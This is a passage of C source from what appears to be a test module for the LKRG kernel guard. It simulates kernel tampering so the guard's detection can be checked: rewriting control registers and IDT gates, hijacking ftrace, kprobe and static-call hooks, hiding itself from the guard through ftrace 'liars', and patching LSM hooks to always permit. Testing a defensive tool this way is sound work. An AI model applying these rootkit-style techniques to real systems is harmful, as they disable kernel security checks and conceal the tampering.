		return cpumask_test_cpu(cpu, &__cpu_active_mask);
	case IN_RECORD:
		return !record_is_forged;
	}
	return value;
}

static void write_register(const struct cpu_attack *attack, unsigned int cpu,
			   u64 value)
{
	switch (attack->where) {
	case IN_MSR:
		wrmsrl_safe(attack->number, value);
		break;
	case IN_CR0:
		asm volatile("mov %0, %%cr0" : : "r" (value) : "memory");
		break;
	case IN_CR4:
		asm volatile("mov %0, %%cr4" : : "r" (value) : "memory");
		break;
	case IN_DR7:
		native_set_debugreg(attack->number, value);
		native_set_debugreg(7, value ? BIT(2 * attack->number) : 0);
		break;
	case IN_XCR0:
		if (boot_cpu_has(X86_FEATURE_OSXSAVE))
			xsetbv(XCR_XFEATURE_ENABLED_MASK, value);
		break;
	case IN_IDTR:
	case IN_GDTR:
		write_table(attack, value);
		break;
	case IN_GDT:
		memcpy(&get_cpu_gdt_rw(cpu)[attack->number], &value,
		       sizeof(value));
		break;
	case IN_TSS:
		per_cpu(cpu_tss_rw, cpu).x86_tss.ist[attack->number] = value;
		break;
	case IN_SP0:
		per_cpu(cpu_tss_rw, cpu).x86_tss.sp0 = value;
		break;
	case IN_PRESENT:
		cpumask_assign_cpu(cpu, &__cpu_present_mask, value);
		break;
	case IN_ACTIVE:
		cpumask_assign_cpu(cpu, &__cpu_active_mask, value);
		break;
	case IN_RECORD:
		forge_record(cpu, !value);
		break;
	}
}

static void change_register(void *info)
{
	const struct cpu_attack *const attack = info;
	const unsigned int cpu = smp_processor_id();
	u64 new;

	cpu_before = read_register(attack, cpu);
	if (attack->set == (ulong)lkrg_attack_entry)
		lkrg_attack_entry_to = cpu_before;
	new = (cpu_before & ~attack->clear) | attack->set;
	if ((attack->where == IN_IDTR || attack->where == IN_GDTR) &&
	    attack->number == TABLE_BASE) {
		memcpy(table_copy, (void *)cpu_before, sizeof(table_copy));
		new = (ulong)table_copy;
	}
	write_register(attack, cpu, new);
}

static void check_register(void *info)
{
	u64 *const value = info;

	*value = read_register(cpu_changed, smp_processor_id());
}

static void restore_register(void *info)
{
	write_register(cpu_changed, smp_processor_id(), cpu_before);
}

/*
 * Who is parked stays in the kernel and switches no tasks, but answers other CPUs.
 * None of them can go or come meanwhile.
 */
static struct task_struct *parked;
static DECLARE_COMPLETION(is_parked);

static int stay_in_kernel(void *unused)
{
	preempt_disable();
	complete(&is_parked);
	while (!kthread_should_stop()) {
		/* Nobody is to wait for the end of its grace period. */
		local_irq_disable();
		rcu_momentary_eqs();
		local_irq_enable();
		cpu_relax();
	}
	preempt_enable();
	return 0;
}

static int park(unsigned int cpu)
{
	struct task_struct *const new =
		kthread_create_on_cpu(stay_in_kernel, NULL, cpu, "lkrg_parked/%u");

	if (IS_ERR(new))
		return PTR_ERR(new);
	reinit_completion(&is_parked);
	wake_up_process(new);
	wait_for_completion(&is_parked);
	parked = new;
	return 0;
}

static void unpark(void)
{
	if (parked)
		kthread_stop(parked);
	parked = NULL;
}

/* The field is which one of the table; bits are shown as such. */
static int change_cpu(struct task_struct *task, size_t which)
{
	const struct cpu_attack *const attack = &cpu_attacks[which];
	const unsigned int cpu = cpumask_last(cpu_online_mask);
	u64 found = 0;
	int len, err;

	/* Interrupts and system calls come from user page tables then. */
	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	if (!cpu)
		return -ENODEV;
	if (cpu_changed)
		return -EBUSY;
	err = attack->deadly ? park(cpu) : 0;
	if (err)
		return err;
	err = smp_call_function_single(cpu, change_register, (void *)attack, true);
	if (err) {
		unpark();
		return err;
	}
	cpu_changed = attack;
	cpu_of_change = cpu;
	err = smp_call_function_single(cpu, check_register, &found, true);
	if (err)
		return err;
	/* The CPU does not have it. */
	if (found == cpu_before) {
		unpark();
		cpu_changed = NULL;
		return -EOPNOTSUPP;
	}

	len = snprintf(changed, sizeof(changed), "CPU %u: %s: ", cpu,
		       attack->name);
	switch (attack->shown) {
	case BIT_SHOWN:
		snprintf(changed + len, sizeof(changed) - len, "%u -> %u",
			 !!(cpu_before & attack->clear), !!(found & attack->clear));
		break;
	case HEX_SHOWN:
		snprintf(changed + len, sizeof(changed) - len, "0x%llx -> 0x%llx",
			 cpu_before, found);
		break;
	case ADDRESS_SHOWN:
		if (cpu_before)
			len += snprintf(changed + len, sizeof(changed) - len,
					"%pS", (void *)cpu_before);
		else
			len += snprintf(changed + len, sizeof(changed) - len, "0");
		snprintf(changed + len, sizeof(changed) - len, " -> %pS",
			 (void *)found);
		break;
	case NOT_SHOWN:
		snprintf(changed + len, sizeof(changed) - len, "changed");
		break;
	}
	return 0;
}

static int restore_cpu(struct task_struct *task, size_t field)
{
	int err;

	if (!cpu_changed)
		return -ENOENT;
	err = smp_call_function_single(cpu_of_change, restore_register, NULL, true);
	if (err)
		return err;
	unpark();
	cpu_changed = NULL;
	changed[0] = '\0';
	return 0;
}

static void write_what_is_there(void *unused)
{
	const unsigned int cpu = smp_processor_id();
	size_t i;

	for (i = 0; i < ARRAY_SIZE(cpu_attacks); i++)
		write_register(&cpu_attacks[i], cpu,
			       read_register(&cpu_attacks[i], cpu));
}

static int rewrite_cpu(struct task_struct *task, size_t field)
{
	const unsigned int cpu = cpumask_last(cpu_online_mask);

	return smp_call_function_single(cpu, write_what_is_there, NULL, true);
}

/* A gate that no program uses, in the table that all CPUs share */
#define VICTIM_GATE	X86_TRAP_BR

static struct change gate_change;

static int write_gate(const gate_desc *gate)
{
	struct desc_ptr idtr;
	unsigned int level;
	struct page *page;
	gate_desc *alias;
	pte_t *pte;

	store_idt(&idtr);
	pte = lookup_address(idtr.address, &level);
	if (!pte || level != PG_LEVEL_4K)
		return -EFAULT;
	page = pfn_to_page(pte_pfn(*pte));
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	if (!gate_change.size)
		memcpy(gate_change.old, &alias[VICTIM_GATE], sizeof(*gate));
	alias[VICTIM_GATE] = *gate;
	vunmap(alias);
	return 0;
}

static int change_gate(void (*change)(gate_desc *gate))
{
	struct desc_ptr idtr;
	gate_desc gate;
	int err;

	if (gate_change.size)
		return -EBUSY;
	store_idt(&idtr);
	gate = ((gate_desc *)idtr.address)[VICTIM_GATE];
	change(&gate);
	err = write_gate(&gate);
	if (!err)
		gate_change.size = sizeof(gate);
	return err;
}

static void redirect_gate(gate_desc *gate)
{
	const ulong to = (ulong)lkrg_attack_entry;

	snprintf(changed, sizeof(changed), "gate %u: %pS -> %pS", VICTIM_GATE,
		 (void *)gate_offset(gate), (void *)to);
	gate->offset_low = to;
	gate->offset_middle = to >> 16;
	gate->offset_high = to >> 32;
}

/* As if every program might raise it itself */
static void open_gate(gate_desc *gate)
{
	const gate_desc before = *gate;
	u16 bits[2];

	gate->bits.dpl ^= 3;
	memcpy(&bits[0], &before.bits, sizeof(bits[0]));
	memcpy(&bits[1], &gate->bits, sizeof(bits[1]));
	snprintf(changed, sizeof(changed),
		 "attributes of gate %u: 0x%x -> 0x%x", VICTIM_GATE,
		 bits[0] << 16 | before.segment, bits[1] << 16 | gate->segment);
}

static int change_gate_offset(struct task_struct *task, size_t field)
{
	return change_gate(redirect_gate);
}

static int change_gate_bits(struct task_struct *task, size_t field)
{
	return change_gate(open_gate);
}

static int restore_gate(struct task_struct *task, size_t field)
{
	int err;

	if (!gate_change.size)
		return -ENOENT;
	err = write_gate((gate_desc *)gate_change.old);
	if (err)
		return err;
	gate_change.size = 0;
	changed[0] = '\0';
	return 0;
}

/* === Hooks in functions of the kernel =================================== */

/* Which pointer is changed */
enum {
	HOOK_FTRACE,
	HOOK_FTRACE_PAGE,
	HOOK_TRAMPOLINE,
	HOOK_DIRECT,
	HOOK_KPROBE,
	HOOK_KPROBE_PAGE,
	HOOK_AGGREGATED,
	HOOK_AGGREGATOR,
	HOOK_KRETPROBE,
	HOOK_RETHOOK,
	HOOK_RETHOOK_DATA,
	HOOK_FPROBE,
	HOOK_FPROBE_EXIT,
	HOOK_FPROBE_RETHOOK,
	HOOK_GRAPH,
	HOOK_GRAPH_STUB,
	HOOK_LIVEPATCH,
	HOOK_UPROBE,
	HOOK_TRACEPOINT,
	HOOK_STATIC_CALL,
	HOOK_MODULE_TRACEPOINT,
	HOOK_MODULE_STATIC_CALL,
};

/*
 * They lead to functions of this module, until an attack leads one of them to where
 * no text is.  Nobody comes by: the machine would have to stop.
 */
#if defined(CONFIG_KRETPROBE_ON_RETHOOK) && defined(CONFIG_FPROBE) && \
	defined(CONFIG_FUNCTION_GRAPH_TRACER) && defined(CONFIG_LIVEPATCH) && \
	defined(CONFIG_UPROBES) && defined(CONFIG_HAVE_STATIC_CALL_INLINE) && \
	defined(CONFIG_DYNAMIC_FTRACE_WITH_DIRECT_CALLS)
static void notrace hooked_trace(unsigned long ip, unsigned long parent_ip,
				 struct ftrace_ops *ops, struct ftrace_regs *regs)
{
}

/* Called as a function is by which others are traced */
static notrace __used __attribute__((__naked__)) void hooked_direct(void)
{
	asm volatile(ASM_RET);
}

static int hooked_probe(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

static int hooked_return(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	return 0;
}

static int hooked_entry(struct fprobe *fprobe, unsigned long ip, unsigned long parent_ip,
			struct pt_regs *regs, void *data)
{
	return 0;
}

static void hooked_exit(struct fprobe *fprobe, unsigned long ip, unsigned long ret_ip,
			struct pt_regs *regs, void *data)
{
}

static int hooked_graph(struct ftrace_graph_ent *trace, struct fgraph_ops *gops)
{
	return 0;
}

static void hooked_graph_return(struct ftrace_graph_ret *trace, struct fgraph_ops *gops)
{
}

static int hooked_program(struct uprobe_consumer *consumer, struct pt_regs *regs)
{
	return 0;
}

/* No program is hooked. */
static bool hooks_none(struct uprobe_consumer *consumer, struct mm_struct *mm)
{
	return false;
}

static void hooked_tracepoint(void *data, int chip, const char *reason, int pmax)
{
}

/* What a module has itself; nobody comes by. */
DECLARE_TRACE(lkrg_attack_event, TP_PROTO(u64 x), TP_ARGS(x));
DEFINE_TRACE(lkrg_attack_event, TP_PROTO(u64 x), TP_ARGS(x));

static void hooked_own_tracepoint(void *data, u64 x)
{
}

DEFINE_STATIC_CALL(lkrg_attack_call, lkrg_attack_idle);

static noinline __used u64 lkrg_attack_asks(u64 x)
{
	trace_lkrg_attack_event(x);
	/* More than a jump at the end */
	return static_call(lkrg_attack_call)(x) + 1;
}

#ifdef CONFIG_HAVE_STATIC_CALL_INLINE
static struct static_call_site *own_call(void)
{
	struct static_call_site *site = THIS_MODULE->static_call_sites;
	int i;

	for (i = 0; i < THIS_MODULE->num_static_call_sites; i++, site++) {
		if ((((ulong)&site->key + site->key) & ~STATIC_CALL_SITE_FLAGS) ==
		    (ulong)&STATIC_CALL_KEY(lkrg_attack_call))
			return site;
	}
	return NULL;
}

/* The kernel believes that the call is there, until it is to be what it was. */
static int write_by_static_call(void *at, const void *from, size_t size)
{
	struct static_call_site *const site = own_call();
	const s32 before = site->addr;

	site->addr = (ulong)at - (ulong)&site->addr;
	static_call_update(lkrg_attack_call, lkrg_attack_branch);
	site->addr = before;
	static_call_update(lkrg_attack_call, lkrg_attack_idle);
	return 0;
}

/* The place for function tracing becomes a call. */
static int move_call(struct task_struct *task, size_t field)
{
	static const u8 nop[] = { BYTES_NOP5 };
	u8 *at = (u8 *)lkrg_attack_idle;
	size_t size = sizeof(nop);
	const u8 *insn;

	/* It may be behind one that says that calls may lead there. */
	if (memcmp(at, nop, sizeof(nop)))
		at += ENDBR_INSN_SIZE;
	if (memcmp(at, nop, sizeof(nop)) || !own_call())
		return -EOPNOTSUPP;
	insn = text_gen_insn(CALL_INSN_OPCODE, at, lkrg_attack_branch);
	/* What does not change is not reported. */
	while (insn[size - 1] == nop[size - 1])
		size--;
	return change_to(&module_text_change, at, insn, size, write_by_static_call);
}
#else
static int move_call(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}
#endif

static struct ftrace_ops hook_ops = {
	.func = hooked_trace,
	.flags = FTRACE_OPS_FL_SAVE_REGS,
};

/* Beside the others what it calls is no part of an instruction. */
static struct ftrace_ops hook_direct;
static void *direct_to = hooked_direct;

/* The last two are at one place. */
static struct kprobe hook_kprobes[] = {
	{ .symbol_name = "kernel_power_off", .pre_handler = hooked_probe },
	{ .symbol_name = "kernel_restart", .pre_handler = hooked_probe },
	{ .symbol_name = "kernel_restart", .pre_handler = hooked_probe },
};

static struct kretprobe hook_kretprobe = {
	.kp.symbol_name = "kernel_halt",
	.handler = hooked_return,
};

static struct fprobe hook_fprobe;

static ulong fgraph_stub_at;
module_param_named(fgraph_stub, fgraph_stub_at, ulong, 0400);
MODULE_PARM_DESC(fgraph_stub, "Address of that object");

static ulong fgraph_array_at;
module_param_named(fgraph_array, fgraph_array_at, ulong, 0400);
MODULE_PARM_DESC(fgraph_array, "Address of that array");

/* In a place of the array that is not in use, so it is not called. */
static struct fgraph_ops hook_graph = {
	.entryfunc = hooked_graph,
	.retfunc = hooked_graph_return,
};

static struct fgraph_ops *graph_before;

static ulong klp_ftrace_handler_at;
module_param_named(klp_ftrace_handler, klp_ftrace_handler_at, ulong, 0400);
MODULE_PARM_DESC(klp_ftrace_handler, "Address of that function");

/* What it believes to be a part of, see kernel/livepatch/patch.h */
static struct {
	struct list_head node;
	struct list_head func_stack;
	struct ftrace_ops fops;
} hook_livepatch = {
	.func_stack = LIST_HEAD_INIT(hook_livepatch.func_stack),
	.fops.flags = FTRACE_OPS_FL_SAVE_REGS,
};

static struct klp_func hook_replaced = {
	.old_func = kernel_restart,
	.new_func = hooked_graph_return,
	.stack_node = LIST_HEAD_INIT(hook_replaced.stack_node),
};

static struct uprobe_consumer hook_consumer = {
	.handler = hooked_program,
	.filter = hooks_none,
};

static struct uprobe *hook_uprobe;
static struct path hook_file;

static int register_graph(void)
{
	struct fgraph_ops **const place = (struct fgraph_ops **)fgraph_array_at + 1;

	if (!fgraph_array_at || !fgraph_stub_at)
		return -EOPNOTSUPP;
	graph_before = *place;
	WRITE_ONCE(*place, &hook_graph);
	return 0;
}

static void unregister_graph(void)
{
	struct fgraph_ops **const place = (struct fgraph_ops **)fgraph_array_at + 1;

	WRITE_ONCE(*place, graph_before);
}

static int register_livepatch(void)
{
	struct ftrace_ops *ops = &hook_livepatch.fops;

	if (!klp_ftrace_handler_at)
		return -EOPNOTSUPP;
	ops->func = (ftrace_func_t)klp_ftrace_handler_at;
	if (list_empty(&hook_livepatch.func_stack))
		list_add(&hook_replaced.stack_node, &hook_livepatch.func_stack);
	return ftrace_set_filter_ip(ops, (unsigned long)kernel_restart, 0, 0) ?:
	       register_ftrace_function(ops);
}

static void unregister_livepatch(void)
{
	unregister_ftrace_function(&hook_livepatch.fops);
}

/* In the program that asks for it */
static int register_uprobe(void)
{
	int err = kern_path("/proc/self/exe", LOOKUP_FOLLOW, &hook_file);

	if (err)
		return err;
	hook_uprobe = uprobe_register(d_real_inode(hook_file.dentry), 0, 0, &hook_consumer);
	if (!IS_ERR(hook_uprobe))
		return 0;
	path_put(&hook_file);
	return PTR_ERR(hook_uprobe);
}

static void unregister_uprobe(void)
{
	uprobe_unregister_nosync(hook_uprobe, &hook_consumer);
	uprobe_unregister_sync();
	path_put(&hook_file);
}

static int register_direct(void)
{
	return ftrace_set_filter_ip(&hook_direct, (unsigned long)kernel_halt, 0, 0) ?:
	       register_ftrace_direct(&hook_direct, (unsigned long)direct_to);
}

static void unregister_direct(void)
{
	unregister_ftrace_direct(&hook_direct, (unsigned long)direct_to, false);
}

/* Functions that the guard could ask, and what they say then of this module */
static noinline long read_nothing(void *to, const void *from, size_t size)
{
	return -EFAULT;
}

static noinline struct module *find_me_everywhere(unsigned long addr)
{
	return THIS_MODULE;
}

static void lie(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
		struct ftrace_regs *regs);

#define LIAR(_function, _nr, _lie) {					\
	.function = _function,						\
	.address = _nr,							\
	.lie = (unsigned long)(_lie),					\
	.ops.func = lie,						\
	.ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,	\
}

static struct liar {
	char *function;
	/* Which argument is an address */
	unsigned int address;
	unsigned long lie;
	struct ftrace_ops ops;
} liars[] = {
	LIAR("copy_from_kernel_nofault", 1, read_nothing),
	LIAR("__module_address", 0, find_me_everywhere),
};

static notrace void lie(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			struct ftrace_regs *regs)
{
	const struct liar *liar = container_of(ops, struct liar, ops);

	if (within_module(ftrace_regs_get_argument(regs, liar->address), THIS_MODULE))
		ftrace_regs_set_instruction_pointer(regs, liar->lie);
}

static unsigned int nr_lying;

static int stop_lying(struct task_struct *task, size_t field)
{
	if (!nr_lying)
		return -ENOENT;
	while (nr_lying)
		unregister_ftrace_function(&liars[--nr_lying].ops);
	return 0;
}

static int start_lying(struct task_struct *task, size_t field)
{
	int err;

	if (nr_lying)
		return -EBUSY;
	while (nr_lying < ARRAY_SIZE(liars)) {
		struct ftrace_ops *ops = &liars[nr_lying].ops;
		char *function = liars[nr_lying].function;

		err = ftrace_set_filter(ops, function, strlen(function), 0) ?:
		      register_ftrace_function(ops);
		if (err) {
			stop_lying(task, field);
			return err;
		}
		nr_lying++;
	}
	return 0;
}

static bool hooks_registered;

/* What is beside kprobes and function tracing */
static int register_others(void)
{
	const char *function = "emergency_restart";
	int err;

	/* What is unregistered leaves behind what was freed. */
	memset(&hook_fprobe, 0, sizeof(hook_fprobe));
	hook_fprobe.entry_handler = hooked_entry;
	hook_fprobe.exit_handler = hooked_exit;
	err = register_fprobe_syms(&hook_fprobe, &function, 1);
	if (err)
		return err;
	err = register_livepatch();
	if (err)
		goto unregister_fprobe;
	err = register_uprobe();
	if (err)
		goto unregister_livepatch;
	err = register_graph();
	if (err)
		goto unregister_uprobe;
	err = register_direct();
	if (!err)
		return 0;

	unregister_graph();
unregister_uprobe:
	unregister_uprobe();
unregister_livepatch:
	unregister_livepatch();
unregister_fprobe:
	unregister_fprobe(&hook_fprobe);
	return err;
}

static void unregister_others(void)
{
	unregister_direct();
	unregister_graph();
	unregister_uprobe();
	unregister_livepatch();
	unregister_fprobe(&hook_fprobe);
}

static int register_hooks(struct task_struct *task, size_t field)
{
	int err, i;

	if (hooks_registered)
		return -EBUSY;
	err = ftrace_set_filter_ip(&hook_ops, (unsigned long)kernel_halt, 0, 0) ?:
	      register_ftrace_function(&hook_ops);
	if (err)
		return err;
	for (i = 0; i < ARRAY_SIZE(hook_kprobes); i++) {
		hook_kprobes[i].addr = NULL;
		hook_kprobes[i].flags = 0;
		err = register_kprobe(&hook_kprobes[i]);
		if (err)
			goto unregister;
	}
	hook_kretprobe.kp.addr = NULL;
	hook_kretprobe.kp.flags = 0;
	err = register_kretprobe(&hook_kretprobe);
	if (err)
		goto unregister;
	err = register_trace_powernv_throttle(hooked_tracepoint, NULL);
	if (err)
		goto unregister_return;
	err = register_trace_lkrg_attack_event(hooked_own_tracepoint, NULL);
	if (err)
		goto unregister_tracepoint;
	err = register_others();
	if (err)
		goto unregister_event;
	hooks_registered = true;
	return 0;

unregister_event:
	unregister_trace_lkrg_attack_event(hooked_own_tracepoint, NULL);
unregister_tracepoint:
	unregister_trace_powernv_throttle(hooked_tracepoint, NULL);
	tracepoint_synchronize_unregister();
unregister_return:
	unregister_kretprobe(&hook_kretprobe);
unregister:
	while (i--)
		unregister_kprobe(&hook_kprobes[i]);
	unregister_ftrace_function(&hook_ops);
	return err;
}

static int unregister_hooks(struct task_struct *task, size_t field)
{
	int i;

	if (!hooks_registered)
		return -ENOENT;
	unregister_others();
	unregister_trace_lkrg_attack_event(hooked_own_tracepoint, NULL);
	unregister_trace_powernv_throttle(hooked_tracepoint, NULL);
	tracepoint_synchronize_unregister();
	unregister_kretprobe(&hook_kretprobe);
	for (i = 0; i < ARRAY_SIZE(hook_kprobes); i++)
		unregister_kprobe(&hook_kprobes[i]);
	unregister_ftrace_function(&hook_ops);
	hooks_registered = false;
	return 0;
}

static void free_hooks(void)
{
	ftrace_free_filter(&hook_ops);
	ftrace_free_filter(&hook_direct);
	ftrace_free_filter(&hook_livepatch.fops);
}

static unsigned long *hook_changed, hook_before;
static void *hook_page;

static int lead_hook(void *place, const char *name, bool to_page)
{
	unsigned long to = (unsigned long)changed;

	if (to_page) {
		if (!hook_page)
			hook_page = vmalloc(PAGE_SIZE);
		if (!hook_page)
			return -ENOMEM;
		to = (unsigned long)hook_page;
	}
	hook_changed = place;
	hook_before = *hook_changed;
	WRITE_ONCE(*hook_changed, to);
	if (to_page)
		snprintf(changed, sizeof(changed),
			 "%s -> an address without a name", name);
	else
		snprintf(changed, sizeof(changed), "%s -> %pS", name, (void *)to);
	return 0;
}

static int restore_hook(struct task_struct *task, size_t field)
{
	int err;

	if (!hook_changed)
		return -ENOENT;
	WRITE_ONCE(*hook_changed, hook_before);
	hook_changed = NULL;
	err = unregister_hooks(task, field);
	direct_to = hooked_direct;
	vfree(hook_page);
	hook_page = NULL;
	changed[0] = '\0';
	return err;
}

/* At a place where nobody comes by */
static unsigned long hooks_many;

static void lead_many_hooks(void *to)
{
	struct tracepoint_func *const funcs =
		rcu_dereference_raw(__tracepoint_lkrg_attack_event.funcs);
	int i;

	for (i = 0; i < hooks_many; i++)
		WRITE_ONCE(funcs[i].func, to);
}

static int restore_many_hooks(struct task_struct *task, size_t field)
{
	if (!hooks_many)
		return -ENOENT;
	lead_many_hooks(hooked_own_tracepoint);
	for (; hooks_many; hooks_many--)
		unregister_trace_lkrg_attack_event(hooked_own_tracepoint,
						   (void *)hooks_many);
	tracepoint_synchronize_unregister();
	return 0;
}

static int change_many_hooks(struct task_struct *task, size_t field)
{
	int err = 0;

	if (hooks_registered || hooks_many)
		return -EBUSY;
	while (hooks_many < MANY && !err) {
		err = register_trace_lkrg_attack_event(hooked_own_tracepoint,
						       (void *)(hooks_many + 1));
		hooks_many += !err;
	}
	if (err)
		restore_many_hooks(task, field);
	else
		lead_many_hooks(changed);
	return err;
}

/* A static call that the kernel makes, but not by way of this pointer */
static void *static_call_of_idle(void)
{
	return &__tracepoint_cpu_idle.static_call_key->func;
}

static void *probe_of_tracepoint(void)
{
	return &rcu_dereference_raw(__tracepoint_powernv_throttle.funcs)[0].func;
}

static void *probe_of_own_tracepoint(void)
{
	return &rcu_dereference_raw(__tracepoint_lkrg_attack_event.funcs)[0].func;
}

/* Of two at one place, who calls them: the list of both begins there. */
static struct kprobe *aggregator(void)
{
	struct list_head *const next = hook_kprobes[1].list.next;

	return list_entry(next == &hook_kprobes[2].list ? hook_kprobes[1].list.prev : next,
			  struct kprobe, list);
}

static int change_hook(struct task_struct *task, size_t which)
{
	int err;

	if (hook_changed)
		return -EBUSY;
	/* This one ftrace is asked to call, and nobody overwrites it afterwards. */
	if (which == HOOK_DIRECT) {
		hook_page = vmalloc(PAGE_SIZE);
		if (!hook_page)
			return -ENOMEM;
		direct_to = hook_page;
	}
	err = register_hooks(task, 0);
	if (err)
		goto free_page;
	switch (which) {
	case HOOK_FTRACE:
	case HOOK_FTRACE_PAGE:
		err = lead_hook(&hook_ops.func, "func", which == HOOK_FTRACE_PAGE);
		break;
	case HOOK_TRAMPOLINE:
		err = lead_hook(&hook_ops.trampoline, "trampoline", false);
		break;
	case HOOK_DIRECT:
		err = lead_hook(&hook_direct.direct_call, "direct_call", true);
		break;
	case HOOK_KPROBE:
	case HOOK_KPROBE_PAGE:
		err = lead_hook(&hook_kprobes[0].pre_handler, "pre_handler",
				which == HOOK_KPROBE_PAGE);
		break;
	case HOOK_AGGREGATED:
		err = lead_hook(&hook_kprobes[2].post_handler, "post_handler", false);
		break;
	case HOOK_AGGREGATOR:
		err = lead_hook(&aggregator()->pre_handler, "pre_handler", false);
		break;
	case HOOK_KRETPROBE:
		err = lead_hook(&hook_kretprobe.handler, "handler", false);
		break;
	case HOOK_RETHOOK:
		err = lead_hook(&hook_kretprobe.rh->handler, "rethook_handler", false);
		break;
	case HOOK_RETHOOK_DATA:
		err = lead_hook(&hook_kretprobe.rh->data, "rethook_data", false);
		break;
	case HOOK_FPROBE:
		err = lead_hook(&hook_fprobe.entry_handler, "entry_handler", false);
		break;
	case HOOK_FPROBE_EXIT:
		err = lead_hook(&hook_fprobe.exit_handler, "exit_handler", false);
		break;
	case HOOK_FPROBE_RETHOOK:
		err = lead_hook(&hook_fprobe.rethook->handler, "rethook_handler", false);
		break;
	case HOOK_GRAPH:
		err = lead_hook(&hook_graph.entryfunc, "entryfunc", false);
		break;
	case HOOK_GRAPH_STUB:
		err = lead_hook(&((struct fgraph_ops *)fgraph_stub_at)->retfunc, "retfunc",
				false);
		break;
	case HOOK_LIVEPATCH:
		err = lead_hook(&hook_replaced.new_func, "new_func", false);
		break;
	case HOOK_UPROBE:
		err = lead_hook(&hook_consumer.handler, "handler", false);
		break;
	case HOOK_TRACEPOINT:
		err = lead_hook(probe_of_tracepoint(), "probe", false);
		break;
	case HOOK_STATIC_CALL:
		err = lead_hook(static_call_of_idle(), "func", false);
		break;
	case HOOK_MODULE_TRACEPOINT:
		err = lead_hook(probe_of_own_tracepoint(), "probe", false);
		break;
	case HOOK_MODULE_STATIC_CALL:
		err = lead_hook(&STATIC_CALL_KEY(lkrg_attack_call).func, "func", false);
		break;
	}
	if (!err)
		return 0;
	unregister_hooks(task, 0);
free_page:
	direct_to = hooked_direct;
	vfree(hook_page);
	hook_page = NULL;
	return err;
}

/* Functions of the guard, from its first to its last files */
static int probe_guard(struct task_struct *task, size_t field)
{
	static const char *const functions[] = {
		"lkrg_param_parse", "lkrg_report", "lkrg_section_step",
		"lkrg_watch_start",
	};
	int err = -ENOENT;
	size_t i;

	for (i = 0; i < ARRAY_SIZE(functions); i++) {
		struct kprobe probe = {
			.symbol_name = functions[i],
			.pre_handler = hooked_probe,
		};

		err = register_kprobe(&probe);
		if (err)
			continue;
		unregister_kprobe(&probe);
		return 0;
	}
	return err;
}
#else
static void free_hooks(void) { }

static int start_lying(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int stop_lying(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int register_hooks(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int unregister_hooks(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int restore_hook(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int restore_many_hooks(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int change_many_hooks(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int change_hook(struct task_struct *task, size_t which)
{
	return -EOPNOTSUPP;
}

static int probe_guard(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}
#endif

/* === What calls the hooks of security modules =========================== */

/* Whether a user may set the time: the first module that says so is capability */
static ulong lsm_call_at;
module_param_named(__SCK__lsm_static_call_settime_0, lsm_call_at, ulong, 0400);
MODULE_PARM_DESC(__SCK__lsm_static_call_settime_0, "Address of that object");

static ulong lsm_key_at;
module_param_named(security_hook_active_settime_0, lsm_key_at, ulong, 0400);
MODULE_PARM_DESC(security_hook_active_settime_0, "Address of that object");

static ulong lsm_table_at;
module_param_named(capability_hooks, lsm_table_at, ulong, 0400);
MODULE_PARM_DESC(capability_hooks, "Address of that object");

static ulong static_calls_start, static_calls_end;
module_param_named(__start_static_call_sites, static_calls_start, ulong, 0400);
MODULE_PARM_DESC(__start_static_call_sites, "Address of that object");
module_param_named(__stop_static_call_sites, static_calls_end, ulong, 0400);
MODULE_PARM_DESC(__stop_static_call_sites, "Address of that object");

static int restore_lsm(struct task_struct *task, size_t field)
{
	return restore(&lsm_change);
}

/* Where the static call leads, which is text that belongs to somebody */
static int redirect_lsm_call(struct task_struct *task, size_t field)
{
#ifdef CONFIG_HAVE_STATIC_CALL
	const u32 to = (ulong)__static_call_return0;

	if (lsm_call_at)
		return change_to(&lsm_change, (void *)lsm_call_at, (const u8 *)&to,
				 sizeof(to), write_through_alias);
#endif
	return -ENOENT;
}

/* As if there was no such hook */
static int disable_lsm_key(struct task_struct *task, size_t field)
{
	return lsm_key_at ? flip(&lsm_change, (void *)lsm_key_at, 1, 0x01) : -ENOENT;
}

static int flip_lsm_table(struct task_struct *task, size_t field)
{
	return lsm_table_at ? flip(&lsm_change, (void *)lsm_table_at, 4, 0xff) : -ENOENT;
}

/* Another one, for when the first call is in two pages, which would be two reports */
static ulong other_call_at;
module_param_named(__SCK__lsm_static_call_ptrace_traceme_0, other_call_at, ulong, 0400);
MODULE_PARM_DESC(__SCK__lsm_static_call_ptrace_traceme_0, "Address of that object");

static int change_lsm_call(const u8 *insn, const void *function, write_t *write)
{
#ifdef CONFIG_HAVE_STATIC_CALL_INLINE
	const struct static_call_site *site = (void *)static_calls_start;

	for (; (ulong)site < static_calls_end; site++) {
		void *const at = (void *)&site->addr + site->addr;
		const ulong key = ((ulong)&site->key + site->key) & ~STATIC_CALL_SITE_FLAGS;

		if ((key != lsm_call_at && key != other_call_at) ||
		    offset_in_page(at) + CALL_INSN_SIZE > PAGE_SIZE)
			continue;
		if (function)
			insn = text_gen_insn(CALL_INSN_OPCODE, at, function);
		return change_to(&lsm_change, at, insn, CALL_INSN_SIZE, write);
	}
#endif
	return -ENOENT;
}

/* The call itself, which becomes: nothing is to be said against it. */
static int patch_lsm_call(struct task_struct *task, size_t field)
{
	/* xor %eax, %eax and three bytes that do nothing */
	static const u8 agree[] = { 0x31, 0xc0, 0x66, 0x66, 0x90 };

	return change_lsm_call(agree, NULL, write_through_alias);
}

/* The same by a function that says so, and by the kernel's own way to patch. */
static int poke_lsm_call(struct task_struct *task, size_t field)
{
	return change_lsm_call(NULL, lkrg_attack_agree, write_by_poke_bp);
}

